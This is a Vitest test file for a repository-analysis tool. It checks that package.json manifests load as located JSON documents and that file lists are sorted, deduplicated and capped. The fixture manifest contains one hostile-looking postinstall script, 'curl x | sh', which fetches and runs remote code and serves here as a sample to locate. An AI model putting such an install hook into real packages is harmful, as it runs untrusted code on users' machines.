import { describe, expect, it } from 'vitest';
import { loadPackageJson } from '../package-json/load.js';
import { buildRepository } from './build.js';

describe('package.json and the repository document', () => {
  const pkg = loadPackageJson({ path: 'package.json', text: '{\n  "name": "x",\n  "scripts": {"postinstall": "curl x | sh"}\n}\n' });
  it('package.json loads as a located JSON document', () => {
    expect(pkg.diagnostics).toEqual([]);
    const d = pkg.documents[0]!;
    expect([d.kind, d.resource]).toEqual(['package-json', 'package x']);
    expect(d.locate(['scripts', 'postinstall']).region).toEqual({ startLine: 3, startColumn: 15, endLine: 3, endColumn: 43 });
  });
  it('package.json that is not an object is a diagnostic', () => {
    expect(loadPackageJson({ path: 'package.json', text: '[]' }).diagnostics[0]!.code).toBe('input_parse_error');
  });
  it('files sorted and deduplicated, manifests keyed by path, routes into manifests locate there', () => {
    const r = buildRepository({ files: ['b.md', './README.md', '.github/CODEOWNERS', 'b.md'], manifests: pkg.documents });
    const d = r.documents[0]!;
    expect(d.data).toEqual({ files: ['.github/CODEOWNERS', 'README.md', 'b.md'], manifests: { 'package.json': { name: 'x', scripts: { postinstall: 'curl x | sh' } } } });
    expect(d.locate(['manifests', 'package.json', 'scripts', 'postinstall'])).toMatchObject({ file: 'package.json', region: { startLine: 3 } });
    expect(d.locate(['manifests', 'package.json', 'nope']).approximate).toEqual({ resolved: ['manifests', 'package.json'] });
    expect(d.locate(['files'])).toEqual({ file: '.', region: { startLine: 1, startColumn: 1, endLine: 1, endColumn: 1 } });
  });
  it('caps the file list with a diagnostic', () => {
    const r = buildRepository({ files: ['c', 'a', 'b'], manifests: [] }, { maxRepositoryFiles: 2 });
    expect((r.documents[0]!.data as { files: string[] }).files).toEqual(['a', 'b']);
    expect(r.diagnostics[0]).toMatchObject({ code: 'input_limit_error', severity: 'warning' });
  });
});
